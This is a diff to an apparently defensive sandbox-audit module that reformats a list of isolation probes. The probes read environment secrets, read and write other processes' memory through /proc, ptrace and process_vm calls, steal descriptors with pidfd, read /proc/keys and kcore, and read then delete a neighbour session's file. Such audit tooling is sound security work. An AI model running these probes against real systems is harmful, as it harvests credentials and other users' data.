@@ -4,40 +4,26 @@ from __future__ import annotations
 
 from dataclasses import replace
 
-from saccade.plugins.audit.attacks.attack import Attack
+from saccade.plugins.audit.attacks.attack import Attack, attacks
 from saccade.plugins.audit.attacks.rollback import between, trace
 
-SECRETS = (
-    Attack(
-        "own_environment",
-        "secrets",
-        "find secrets in the environment",
-        """
+SECRETS = attacks(
+    "secrets",
+    r"""
+== own_environment: find secrets in the environment
 print(dict(os.environ), os.environb)
 print(try_quietly(read, "/proc/self/environ", 100_000))
 stack = ctypes.POINTER(ctypes.c_char_p).in_dll(_libc, "environ")
 i = 0
 while stack and stack[i]:
     print(stack[i]); i += 1
-""",
-    ),
-    Attack(
-        "environment_of_others",
-        "secrets",
-        "read the environment and command line of every process",
-        """
+== environment_of_others: read the environment and command line of every process
 for pid in ["1", str(os.getppid()), str(target["host_pid"]), *(try_quietly(os.listdir, "/proc") or [])]:
     if pid.isdigit() and int(pid) != os.getpid():
         text = try_quietly(read, "/proc/" + pid + "/environ", 100_000)
         if text:
             breach("environment of " + pid + ": " + repr(text[:200]))
-""",
-    ),
-    Attack(
-        "memory_of_others",
-        "secrets",
-        "read the memory of every process through /proc",
-        """
+== memory_of_others: read the memory of every process through /proc
 for pid in ["1", str(os.getppid()), str(target["host_pid"]), *(try_quietly(os.listdir, "/proc") or [])]:
     if pid.isdigit() and int(pid) != os.getpid():
         for name in ("mem", "maps", "pagemap", "stack", "syscall", "auxv"):
@@ -49,22 +35,10 @@ for pid in ["1", str(os.getppid()), str(target["host_pid"]), *(try_quietly(os.li
                     breach(path + " can be read")
             except OSError as error:
                 print("stopped:", path, error)
-""",
-    ),
-    Attack(
-        "write_memory_of_others",
-        "secrets",
-        "write to the memory of the parent and of process 1",
-        """
+== write_memory_of_others: write to the memory of the parent and of process 1
 for pid in ("1", str(os.getppid()), str(target["host_pid"])):
     attempt("write " + pid, os.open, "/proc/" + pid + "/mem", os.O_RDWR)
-""",
-    ),
-    Attack(
-        "own_memory_leftovers",
-        "secrets",
-        "search the memory inherited from the zygote for secrets of the host",
-        """
+== own_memory_leftovers: search the memory inherited from the zygote for secrets of the host
 # The needle is not spelt here: it is the prefix of what the host calls its secrets.
 needle = bytes(target["secret_prefix"], "ascii")[::-1]
 found = set()
@@ -84,13 +58,7 @@ with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
             found.add(data[place : place + 64])
             place = data.find(needle[::-1], place + 1)
 print(found)
-""",
-    ),
-    Attack(
-        "files_of_other_sessions",
-        "secrets",
-        "find and read the neighbour's files by walking everything",
-        """
+== files_of_other_sessions: find and read the neighbour's files by walking everything
 seen = 0
 for top in ("/", "..", "../..", "/workspace", "/workspaces", "/tmp", "/dev/shm", "/run", "/proc/1/cwd",
             "/proc/self/cwd/.."):
@@ -105,13 +73,7 @@ for top in ("/", "..", "../..", "/workspace", "/workspaces", "/tmp", "/dev/shm",
             print(try_quietly(read, os.path.join(root, "neighbour.txt")))
             try_quietly(os.remove, os.path.join(root, "neighbour.txt"))
 print("folders seen:", seen)
-""",
-    ),
-    Attack(
-        "list_sessions",
-        "secrets",
-        "list the folders of other sessions beside the own one",
-        """
+== list_sessions: list the folders of other sessions beside the own one
 here = os.path.realpath(os.getcwd())
 for place in {os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "..", "../.."}:
     names = try_quietly(os.listdir, place)
@@ -122,16 +84,10 @@ for place in {os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "..
             text = try_quietly(read, os.path.join(inside, "neighbour.txt"))
             if text:
                 print(text)
-""",
-    ),
-    Attack(
-        "guess_session_paths",
-        "secrets",
-        "guess the neighbour's workspace by counting its name up and down",
-        """
+== guess_session_paths: guess the neighbour's workspace by counting its name up and down
 import re
 here = os.path.realpath(os.getcwd())
-for match in re.finditer(r"\\d+", here):
+for match in re.finditer(r"\d+", here):
     for number in range(max(0, int(match[0]) - 50), int(match[0]) + 50):
         path = here[: match.start()] + str(number) + here[match.end() :]
         if path != here:
@@ -140,13 +96,7 @@ for match in re.finditer(r"\\d+", here):
             except OSError:
                 pass
 print("stopped: nothing found beside", here)
-""",
-    ),
-    Attack(
-        "descriptors_of_others",
-        "secrets",
-        "open other processes' files through /proc/*/fd, cwd, root and map_files",
-        """
+== descriptors_of_others: open other processes' files through /proc/*/fd, cwd, root and map_files
 for pid in ["1", str(os.getppid()), str(target["host_pid"]), *(try_quietly(os.listdir, "/proc") or [])]:
     if not pid.isdigit() or int(pid) == os.getpid():
         continue
@@ -155,13 +105,7 @@ for pid in ["1", str(os.getppid()), str(target["host_pid"]), *(try_quietly(os.li
         names = try_quietly(os.listdir, place)
         if names and name != "task":
             breach(place + " can be listed: " + repr(names)[:100])
-""",
-    ),
-    Attack(
-        "read_all_descriptors",
-        "secrets",
-        "read everything that inherited descriptors give",
-        """
+== read_all_descriptors, may lose its session: read everything that inherited descriptors give
 import select
 for fd in descriptors():
     try:
@@ -178,26 +122,13 @@ for fd in descriptors():
             print(os.read(fd, 4096)[:500])
     except OSError as error:
         print("stopped:", fd, error)
-""",
-        may_lose_session=True,
-    ),
-    Attack(
-        "ptrace",
-        "secrets",
-        "trace the parent, process 1 and the host",
-        """
+== ptrace: trace the parent, process 1 and the host
 for pid in (os.getppid(), 1, target["host_pid"], target["canary_pid"]):
     if pid > 0:
         attempt("attach " + str(pid), raw, "ptrace", 16, pid, 0, 0)
         attempt("seize " + str(pid), raw, "ptrace", 0x4206, pid, 0, 0)
 attempt("traceme", raw, "ptrace", 0, 0, 0, 0)
-""",
-    ),
-    Attack(
-        "process_vm",
-        "secrets",
-        "read and write other processes' memory by system call",
-        """
+== process_vm: read and write other processes' memory by system call
 buffer = ctypes.create_string_buffer(64)
 class Span(ctypes.Structure):
     _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
@@ -206,25 +137,13 @@ for pid in (os.getppid(), 1, target["host_pid"], target["canary_pid"]):
     for name in ("process_vm_readv", "process_vm_writev"):
         attempt(name, raw, name, pid, ctypes.byref(local), 1, ctypes.byref(Span(id(None), 8)), 1, 0)
     attempt("kcmp", raw, "kcmp", pid, os.getpid(), 2, 0, 0)
-""",
-    ),
-    Attack(
-        "steal_descriptors",
-        "secrets",
-        "take descriptors out of other processes by pidfd",
-        """
+== steal_descriptors: take descriptors out of other processes by pidfd
 for pid in (os.getppid(), 1, target["host_pid"], target["canary_pid"]):
     pidfd = try_quietly(raw, "pidfd_open", pid, 0)
     if pidfd is not None:
         for fd in range(8):
             attempt("pidfd_getfd", raw, "pidfd_getfd", pidfd, fd, 0)
-""",
-    ),
-    Attack(
-        "mountinfo",
-        "secrets",
-        "learn the machine's layout from /proc and /sys",
-        """
+== mountinfo: learn the machine's layout from /proc and /sys
 for path in ("/proc/self/mountinfo", "/proc/mounts", "/proc/cmdline", "/proc/net/tcp", "/proc/net/unix",
              "/proc/kallsyms", "/proc/modules", "/proc/keys", "/proc/sched_debug", "/proc/kcore", "/proc/1/mountinfo"):
     text = try_quietly(read, path, 200_000)
@@ -232,13 +151,7 @@ for path in ("/proc/self/mountinfo", "/proc/mounts", "/proc/cmdline", "/proc/net
         breach(path + " names the host's folders")
     if text and path in ("/proc/kcore", "/proc/keys"):
         breach(path + " can be read")
-""",
-    ),
-    Attack(
-        "shared_memory_leftovers",
-        "secrets",
-        "find shared memory of others by SysV id, message queues and /dev/shm",
-        """
+== shared_memory_leftovers: find shared memory of others by SysV id, message queues and /dev/shm
 import ctypes
 for name in try_quietly(os.listdir, "/dev/shm") or ():
     data = try_quietly(read, "/dev/shm/" + name)
@@ -252,7 +165,6 @@ for number in range(64):
     else:
         print(ctypes.string_at(place, 64))
 """,
-    ),
 )
 
 
